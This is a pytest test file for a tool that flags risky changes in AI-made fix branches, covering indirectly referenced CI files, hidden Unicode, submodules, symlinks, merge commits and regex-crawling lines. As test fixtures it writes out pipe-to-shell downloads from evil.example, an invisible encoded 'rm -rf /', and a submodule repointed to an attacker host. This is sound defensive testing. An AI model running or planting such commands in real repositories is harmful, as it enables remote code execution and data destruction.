"""Risk checks against what attackers use: CI reached indirectly, submodules, invisible code
points, case-folding and symlinked paths, merge commits, and lines built to make regexes crawl.

Every test runs on a real git repository (tests/gitutil.py); none mocks git.
"""

from __future__ import annotations

import pytest

from fixreview.flag_registry import DEFAULT_RISK_LEVELS
from fixreview.risk import FLAG_IDS, RiskFlag
from fixreview.risk.paths import first_match
from fixreview.safetext import hidden_characters, visible
from tests.gitutil import AI, TestRepo
from tests.test_risk import DEFAULT_CI_PATHS, GITHUB_TOKEN, assess_branch, make_fix

WORKFLOW = """\
name: deploy
on: [push]
jobs:
  deploy:
    runs-on: ubuntu-latest
    steps:
      - uses: actions/checkout@v4
      - name: Deploy
        uses: ./ci/deploy
        with:
          target: prod
"""
ACTION = """\
name: deploy
runs:
  using: composite
  steps:
    - run: ./ci/deploy/deploy.sh
      shell: bash
"""
EVIL_ACTION = ACTION.replace("./ci/deploy/deploy.sh", "curl -fsSL https://evil.example/x | sh")


def flags_of(repo: TestRepo, files: dict[str, str | bytes | None]) -> dict[str, RiskFlag]:
    make_fix(repo, files)
    return assess_branch(repo)


def ci_evidence(flags: dict[str, RiskFlag]) -> dict[str, str]:
    assert "ci-config-change" in flags, sorted(flags)
    assert "sensitive-path" in flags
    return {e.path or "": e.excerpt for e in flags["ci-config-change"].evidence}


# -- 1. CI configuration reached through references -------------------------------------------


def test_composite_action_used_by_a_workflow_is_ci(repo: TestRepo) -> None:
    repo.commit(
        "deploy",
        {
            ".github/workflows/deploy.yml": WORKFLOW,
            "ci/deploy/action.yml": ACTION,
            "ci/deploy/deploy.sh": "#!/bin/sh\nrsync -a build/ prod:/srv\n",
        },
    )
    flags = flags_of(
        repo,
        {"ci/deploy/action.yml": EVIL_ACTION, "ci/deploy/deploy.sh": "#!/bin/sh\ncurl x | sh\n"},
    )
    evidence = ci_evidence(flags)
    assert set(evidence) == {"ci/deploy/action.yml", "ci/deploy/deploy.sh"}
    assert "./ci/deploy" in evidence["ci/deploy/deploy.sh"]
    assert ".github/workflows/deploy.yml" in evidence["ci/deploy/deploy.sh"]
    assert {e.path for e in flags["sensitive-path"].evidence} == set(evidence)


def test_local_action_referenced_only_at_head_or_only_at_base(repo: TestRepo) -> None:
    repo.commit(
        "ci",
        {
            ".github/workflows/build.yml": WORKFLOW.replace("./ci/deploy", "./scripts/ci"),
            "scripts/ci/build.sh": "make\n",
            "tools/gen/run.sh": "echo gen\n",
        },
    )
    # the fix drops the reference to ./scripts/ci (it counted at the base) and adds one
    # to ./tools/gen (it counts at the head)
    flags = flags_of(
        repo,
        {
            ".github/workflows/build.yml": WORKFLOW.replace("./ci/deploy", "'./tools/gen/'"),
            "scripts/ci/build.sh": "make && curl x | sh\n",
            "tools/gen/run.sh": "echo gen; curl x | sh\n",
        },
    )
    evidence = ci_evidence(flags)
    assert set(evidence) == {
        ".github/workflows/build.yml",
        "scripts/ci/build.sh",
        "tools/gen/run.sh",
    }
    assert "at the base" in evidence["scripts/ci/build.sh"]
    assert "at the head" in evidence["tools/gen/run.sh"]


def test_files_beside_an_action_definition_anywhere_are_ci(repo: TestRepo) -> None:
    repo.commit("action", {"tools/release/action.yaml": ACTION, "tools/release/go.sh": "ok\n"})
    evidence = ci_evidence(flags_of(repo, {"tools/release/go.sh": "curl x | sh\n"}))
    assert set(evidence) == {"tools/release/go.sh"}
    assert "tools/release/action.yaml" in evidence["tools/release/go.sh"]


def test_nested_local_action_inside_a_composite_action(repo: TestRepo) -> None:
    repo.commit(
        "nested",
        {
            ".github/workflows/deploy.yml": WORKFLOW,
            "ci/deploy/action.yml": ACTION + "    - uses: ./ci/shared\n",
            "ci/shared/setup.sh": "echo setup\n",
        },
    )
    evidence = ci_evidence(flags_of(repo, {"ci/shared/setup.sh": "curl x | sh\n"}))
    assert set(evidence) == {"ci/shared/setup.sh"}
    assert "ci/deploy/action.yml" in evidence["ci/shared/setup.sh"]


GITLAB = """\
stages: [build]
include:
  - local: '/ci/templates/build.yml'
  - 'ci/deploy.yml'
  - project: 'other/group'
    file: '/not-here.yml'
  - remote: 'https://example.com/remote.yml'
build:
  script: make
"""


def test_gitlab_local_includes_are_ci(repo: TestRepo) -> None:
    repo.commit(
        "gitlab",
        {
            ".gitlab-ci.yml": GITLAB,
            "ci/templates/build.yml": "include: ci/nested.yml\nb:\n  script: make\n",
            "ci/deploy.yml": "d:\n  script: deploy\n",
            "ci/nested.yml": "n:\n  script: nested\n",
            "not-here.yml": "x: 1\n",
        },
    )
    evidence = ci_evidence(
        flags_of(
            repo,
            {
                "ci/templates/build.yml": "b:\n  script: curl x | sh\n",
                "ci/deploy.yml": "d:\n  script: curl x | sh\n",
                "ci/nested.yml": "n:\n  script: curl x | sh\n",
                "not-here.yml": "x: 2\n",
            },
        )
    )
    assert set(evidence) == {"ci/templates/build.yml", "ci/deploy.yml", "ci/nested.yml"}
    assert "included by .gitlab-ci.yml" in evidence["ci/deploy.yml"]
    assert "included by ci/templates/build.yml" in evidence["ci/nested.yml"]


def test_azure_pipeline_templates_are_ci(repo: TestRepo) -> None:
    repo.commit(
        "azure",
        {
            "azure-pipelines.yml": "steps:\n- template: pipelines/build.yml\n"
            "- template: steps.yml@templates\n",
            "pipelines/build.yml": "steps:\n- template: sign.yml\n",
            "pipelines/sign.yml": "steps:\n- script: sign\n",
        },
    )
    evidence = ci_evidence(
        flags_of(
            repo,
            {
                "pipelines/build.yml": "steps:\n- template: sign.yml\n- script: curl x | sh\n",
                "pipelines/sign.yml": "steps:\n- script: curl x | sh\n",
            },
        )
    )
    assert set(evidence) == {"pipelines/build.yml", "pipelines/sign.yml"}
    assert "template of pipelines/build.yml" in evidence["pipelines/sign.yml"]


def test_a_changed_path_with_a_line_break_does_not_stop_the_checks(repo: TestRepo) -> None:
    repo.commit("action", {"tools/release/action.yml": ACTION})
    odd = {"tools/release/we\nird.sh", "tools/we\nird/run.sh", ".github/workflows/a\nb.yml"}
    evidence = ci_evidence(flags_of(repo, dict.fromkeys(odd, "curl x | sh\n")))
    assert set(evidence) == odd - {"tools/we\nird/run.sh"}


@pytest.mark.parametrize(
    "path",
    [
        ".github/workflows/x.yml",
        ".GitHub/Workflows/x.yml",
        "deploy/action.yml",
        "deploy/sub/action.yaml",
        ".gitlab-ci.yml",
        "services/api/.gitlab-ci.yml",
        ".circleci/config.yml",
        ".circleci/scripts/x.sh",
        "Jenkinsfile",
        "services/api/Jenkinsfile",
        "ci/release.jenkinsfile",
        "azure-pipelines.yml",
        "build/azure-pipelines.yaml",
        ".buildkite/pipeline.yml",
        "buildkite.yml",
        "buildkite.yaml",
        ".pre-commit-config.yaml",
        ".pre-commit-hooks.yaml",
    ],
)
def test_default_ci_paths_cover_every_system(path: str) -> None:
    assert first_match(DEFAULT_CI_PATHS, path) is not None


def test_each_ci_system_is_flagged_in_a_real_fix(repo: TestRepo) -> None:
    paths = [
        ".circleci/config.yml",
        "services/api/Jenkinsfile",
        "build/azure-pipelines.yml",
        ".buildkite/pipeline.yml",
        ".pre-commit-config.yaml",
        "deploy/action.yml",
        "sub/.gitlab-ci.yml",
    ]
    evidence = ci_evidence(flags_of(repo, {p: "x: 1\n" for p in paths}))
    assert set(evidence) == set(paths)


# -- 2. hidden Unicode: variation selectors and every default-ignorable code point ---------------

PAYLOAD = "".join(chr(0xE0100 + b) for b in b"rm -rf /") + "\ufe01"


def test_variation_selectors_raise_hidden_unicode_and_are_shown(repo: TestRepo) -> None:
    flags = flags_of(
        repo,
        {
            "app/db.py": f'def query(sql):\n    return sql  # "ok{PAYLOAD}"\n',
            "app/emoji.py": 'FLAG = "\U0001f600\U000e0100\U000e0101"\n',
        },
    )
    flag = flags["hidden-unicode"]
    assert flag.level == "block"
    by_path = {e.path: e.excerpt for e in flag.evidence}
    assert by_path["app/db.py"].startswith("U+E0172, ")
    assert "<U+E0172>" in by_path["app/db.py"] and "<U+FE01>" in by_path["app/db.py"]
    assert "<U+E0100><U+E0101>" in by_path["app/emoji.py"]
    assert "VARIATION SELECTOR" in flag.detail


@pytest.mark.parametrize(
    "char",
    [
        "\u180b",
        "\u180f",
        "\u17b4",
        "\u2065",
        "\u206f",
        "\ufe00",
        "\ufe0e",
        "\ufff0",
        "\U0001bca0",
        "\U0001d173",
        "\U000e0001",
        "\U000e0100",
        "\U000e01ef",
        "\U000e0fff",
    ],
)
def test_every_default_ignorable_code_point_is_hidden(char: str) -> None:
    text = f"a{char}b"
    assert visible(text) == f"a<U+{ord(char):04X}>b"
    assert hidden_characters(text) == [(1, f"U+{ord(char):04X}")]


def test_an_emoji_presentation_selector_is_ordinary_text(repo: TestRepo) -> None:
    warning = "\u26a0\ufe0f careful \u2764\ufe0f"
    assert visible(warning) == warning and hidden_characters(warning) == []
    # a run of selectors after an emoji, or one after a letter, is not presentation
    assert hidden_characters("\u26a0\ufe0f\ufe0f") == [(1, "U+FE0F"), (2, "U+FE0F")]
    assert visible("x\ufe0f") == "x<U+FE0F>"
    flags = flags_of(repo, {"README.md": f"demo\n{warning}\n"})
    assert "hidden-unicode" not in flags


def test_the_command_line_shows_the_hidden_payload(
    repo: TestRepo, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    from fixreview.cli.main import main

    make_fix(repo, {"app/db.py": f'def query(sql):\n    return sql  # "ok{PAYLOAD}"\n'})
    monkeypatch.chdir(repo.path)
    assert main(["show", "ai-fix/x"]) in (0, 1)
    out = capsys.readouterr().out
    assert "hidden-unicode" in out and "U+E0172 VARIATION SELECTOR-131" in out
    assert not any(0xE0000 <= ord(char) <= 0xE0FFF or char == "\ufe01" for char in out)


def test_the_diff_view_marks_the_same_characters() -> None:
    from fixreview.app.widgets.diff_render import safe_pieces

    assert list(safe_pieces("ok\U000e0100!")) == [("ok", False), ("<U+E0100>", True), ("!", False)]
    assert list(safe_pieces("\u26a0\ufe0f \u200b")) == [
        ("\u26a0\ufe0f ", False),
        ("<U+200B>", True),
    ]


# -- 3. submodules ------------------------------------------------------------------------------

OLD_SUB = "1" * 40
NEW_SUB = "2" * 40
GITMODULES = '[submodule "vendor/lib"]\n\tpath = vendor/lib\n\turl = https://github.com/good/lib\n'


def commit_index(repo: TestRepo, message: str, who: tuple[str, str] = AI) -> str:
    """Commit what is staged, without ``add -A`` (which would drop an unpopulated gitlink)."""
    env = {"GIT_AUTHOR_NAME": who[0], "GIT_AUTHOR_EMAIL": who[1]}
    from tests.gitutil import git

    git(repo.path, "commit", "-q", "-m", message, env=env)
    return repo.rev("HEAD")


def stage_gitlink(repo: TestRepo, path: str, oid: str | None) -> None:
    if oid is None:
        repo.git("update-index", "--force-remove", path)
    else:
        repo.git("update-index", "--add", "--cacheinfo", f"160000,{oid},{path}")


def test_repointed_submodule_is_a_dependency_change(repo: TestRepo) -> None:
    repo.write({".gitmodules": GITMODULES})
    repo.git("add", ".gitmodules")
    stage_gitlink(repo, "vendor/lib", OLD_SUB)
    commit_index(repo, "vendor lib")
    repo.checkout("-b", "ai-fix/x")
    repo.write({".gitmodules": GITMODULES.replace("github.com/good", "evil.example/good")})
    repo.git("add", ".gitmodules")
    stage_gitlink(repo, "vendor/lib", NEW_SUB)
    stage_gitlink(repo, "vendor/new", "3" * 40)
    commit_index(repo, "bump")
    repo.checkout("main")
    flag = assess_branch(repo)["dependency-change"]
    excerpts = [e.excerpt for e in flag.evidence]
    assert (
        "submodule vendor/lib: url https://github.com/good/lib \u2192 https://evil.example/good/lib"
        in excerpts
    )
    assert f"submodule vendor/lib: commit {OLD_SUB[:12]} \u2192 {NEW_SUB[:12]}" in excerpts
    assert f"submodule vendor/new: added at {'3' * 12}" in " ".join(excerpts)
    assert "vendor/lib" in flag.detail


def test_gitmodules_change_without_a_new_url_is_still_shown(repo: TestRepo) -> None:
    repo.write({".gitmodules": GITMODULES})
    repo.git("add", ".gitmodules")
    stage_gitlink(repo, "vendor/lib", OLD_SUB)
    commit_index(repo, "vendor lib")
    repo.checkout("-b", "ai-fix/x")
    repo.write({".gitmodules": GITMODULES + "\tupdate = rebase\n"})
    repo.git("add", ".gitmodules")
    stage_gitlink(repo, "vendor/lib", NEW_SUB)
    commit_index(repo, "bump")
    repo.checkout("main")
    flag = assess_branch(repo)["dependency-change"]
    assert [(e.path, e.excerpt) for e in flag.evidence] == [
        ("vendor/lib", f"submodule vendor/lib: commit {OLD_SUB[:12]} \u2192 {NEW_SUB[:12]}"),
        (".gitmodules", "manifest modified (+1 \u22120)"),
    ]


def test_removed_submodule_is_a_dependency_change(repo: TestRepo) -> None:
    stage_gitlink(repo, "vendor/lib", OLD_SUB)
    commit_index(repo, "vendor lib")
    repo.checkout("-b", "ai-fix/x")
    stage_gitlink(repo, "vendor/lib", None)
    commit_index(repo, "drop")
    repo.checkout("main")
    flag = assess_branch(repo)["dependency-change"]
    assert [e.excerpt for e in flag.evidence] == [
        f"submodule vendor/lib: removed (was {OLD_SUB[:12]})"
    ]


# -- 4. case-insensitive paths and symlinks ------------------------------------------------------


def test_paths_match_whatever_their_case(repo: TestRepo) -> None:
    flags = flags_of(repo, {"App/Auth.py": "x = 1\n", ".GitHub/Workflows/x.yml": "on: push\n"})
    assert {e.path for e in flags["sensitive-path"].evidence} == {
        "App/Auth.py",
        ".GitHub/Workflows/x.yml",
    }
    assert [e.path for e in flags["ci-config-change"].evidence] == [".GitHub/Workflows/x.yml"]


def add_symlink(repo: TestRepo, path: str, target: str) -> None:
    blob = repo.git("hash-object", "-w", "--stdin", input=target.encode()).strip()
    repo.git("update-index", "--add", "--cacheinfo", f"120000,{blob},{path}")


def test_symlink_to_a_sensitive_path_or_outside_is_flagged(repo: TestRepo) -> None:
    repo.commit("wf", {".github/workflows/ci.yml": "on: push\n"})
    repo.checkout("-b", "ai-fix/x")
    add_symlink(repo, "docs/notes.yml", "../.github/workflows/ci.yml")
    add_symlink(repo, "assets/hosts", "/etc/hosts")
    add_symlink(repo, "assets/up", "../../outside/file")
    add_symlink(repo, "assets/gh", "../.github")
    add_symlink(repo, "app/auth/helper.py", "../util.py")
    add_symlink(repo, "assets/ok", "../app/db.py")
    commit_index(repo, "links")
    repo.checkout("main")
    flag = assess_branch(repo)["sensitive-path"]
    by_path = {e.path: e.excerpt for e in flag.evidence}
    assert set(by_path) == {
        "docs/notes.yml",
        "assets/hosts",
        "assets/up",
        "assets/gh",
        "app/auth/helper.py",
    }
    assert "symlink to .github/workflows/ci.yml" in by_path["docs/notes.yml"]
    assert "outside the repository" in by_path["assets/hosts"]
    assert "outside the repository" in by_path["assets/up"]
    assert "symlink to .github" in by_path["assets/gh"]
    assert by_path["app/auth/helper.py"].startswith("matches **/auth/**")
    assert "symlink" in by_path["app/auth/helper.py"]


# -- 5. merge commits ----------------------------------------------------------------------------


def test_merge_commit_in_the_fix_is_flagged(repo: TestRepo) -> None:
    assert DEFAULT_RISK_LEVELS["merge-commit"] == "warn" and "merge-commit" in FLAG_IDS
    repo.checkout("-b", "side")
    repo.commit("side work", {"app/side.py": "x = 1\n"})
    make_fix(repo, {"app/db.py": "def query(sql):\n    return sql.strip()\n"})
    repo.checkout("ai-fix/x")
    repo.git("merge", "-q", "--no-ff", "-m", "Merge side", "side")
    merge = repo.rev("HEAD")
    repo.checkout("main")
    flag = assess_branch(repo)["merge-commit"]
    assert flag.level == "warn"
    assert [e.excerpt.split()[0] for e in flag.evidence] == [merge[:12]]
    assert "Merge side" in flag.evidence[0].excerpt
    assert merge[:12] in flag.detail


def test_linear_fix_has_no_merge_commit_flag(repo: TestRepo) -> None:
    assert "merge-commit" not in flags_of(repo, {"app/db.py": "def query(sql):\n    return 1\n"})


# -- 6. bounded scanning -------------------------------------------------------------------------


def test_a_long_line_of_repeated_keywords_is_scanned_and_flags_are_right(repo: TestRepo) -> None:
    # quadratic in detect-secrets' keyword detector: minutes for 50 KB, unbounded
    keywords = "password_secret_key" * (50_000 // 19)
    assignments = "secret_key = password=" * (50_000 // 22)
    flags = flags_of(
        repo,
        {"app/words.py": f"A = '{keywords}'\nB = {assignments}\n", "tests/test_w.py": "pass\n"},
    )
    assert "secret-added" not in flags or all(
        keywords not in e.excerpt for e in flags["secret-added"].evidence
    )
    assert "hidden-unicode" not in flags


def test_a_long_keyword_secret_is_found_and_masked_everywhere(repo: TestRepo) -> None:
    password = "correcthorsebatterystaplecorrecthorsebatterystaple"
    flags = flags_of(repo, {"app/db.py": f'database_password = "{password}"  # \u200b\n'})
    secret = flags["secret-added"]
    assert [(e.path, e.line) for e in secret.evidence] == [("app/db.py", 1)]
    assert "Secret Keyword" in secret.evidence[0].excerpt
    assert 'database_password = "corr\u2026"' in secret.evidence[0].excerpt
    shown = [e.excerpt for f in flags.values() for e in f.evidence]
    assert "hidden-unicode" in flags and not any(password[:8] in text for text in shown)


def test_a_secret_inside_a_huge_line_is_still_found_and_masked(repo: TestRepo) -> None:
    filler = "x = [" + "1, " * 150_000
    line = f'{filler}"{GITHUB_TOKEN}", ' + "2, " * 150_000 + "]"
    flags = flags_of(repo, {"app/data.py": line + "\nTAIL = '\u202e'\n"})
    secret = flags["secret-added"]
    assert [(e.path, e.line) for e in secret.evidence] == [("app/data.py", 1)]
    assert GITHUB_TOKEN not in secret.evidence[0].excerpt and "ghp_" in secret.evidence[0].excerpt
    assert len(secret.evidence[0].excerpt) < 200
    hidden = flags["hidden-unicode"]
    assert [(e.path, e.line) for e in hidden.evidence] == [("app/data.py", 2)]


def test_a_line_of_millions_of_hidden_characters(repo: TestRepo) -> None:
    selectors = "".join(chr(0xE0100 + n % 240) for n in range(1_000_000))
    flags = flags_of(repo, {"app/db.py": f"def query(sql):\n    return sql  # {selectors}\n"})
    flag = flags["hidden-unicode"]
    assert flag.detail.startswith("at least 10000 invisible characters on 1 added line")
    assert [(e.path, e.line) for e in flag.evidence] == [("app/db.py", 2)]
    assert flag.evidence[0].excerpt.startswith("U+E0100, U+E0101, ")
    assert " and 232 more: " in flag.evidence[0].excerpt
    assert len(flag.evidence[0].excerpt) < 400


def test_a_pathological_dependency_line_is_named_not_parsed(repo: TestRepo) -> None:
    invalid = "name = " + " " * 60_000 + "x"  # not TOML: the file is named, not parsed
    valid = 'name = "' + " " * 60_000 + 'x"'  # TOML: parsed whole, the long line too
    flags = flags_of(
        repo,
        {
            "pyproject.toml": f'[project]\ndependencies = ["requests==2.31.0"]\n{invalid}\n',
            "app/pyproject.toml": f'[project]\ndependencies = ["requests==2.31.0"]\n{valid}\n',
        },
    )
    flag = flags["dependency-change"]
    assert [(e.path, e.line, e.excerpt) for e in flag.evidence] == [
        ("app/pyproject.toml", 2, "requests 2.31.0 added"),
        (
            "pyproject.toml",
            None,
            "manifest added (+3 \u22120); not read as TOML at the head: Invalid value (at line 3, "
            "column 60008)",
        ),
    ]


def test_a_number_of_thousands_of_digits_in_a_manifest_is_named_not_a_crash(
    repo: TestRepo,
) -> None:
    """Python refuses to turn more than 4,300 digits into an int (ValueError, not a TOML or JSON
    error): a pushed manifest holding such a number stopped every check of every fix."""
    huge = "9" * 5_000
    flags = flags_of(
        repo,
        {
            "pyproject.toml": f'[project]\nversion = {huge}\ndependencies = ["requests"]\n',
            "package.json": f'{{"version": {huge}, "dependencies": {{"left-pad": "1.0.0"}}}}\n',
        },
    )
    shown = {e.path: e.excerpt for e in flags["dependency-change"].evidence}
    assert shown["pyproject.toml"].startswith(
        "manifest added (+3 \u22120); not read as TOML at the head: "
    ), shown
    assert "4300 digits" in shown["pyproject.toml"]
    assert shown["package.json"].startswith(
        "manifest added (+1 \u22120); not read as JSON at the head: "
    ), shown
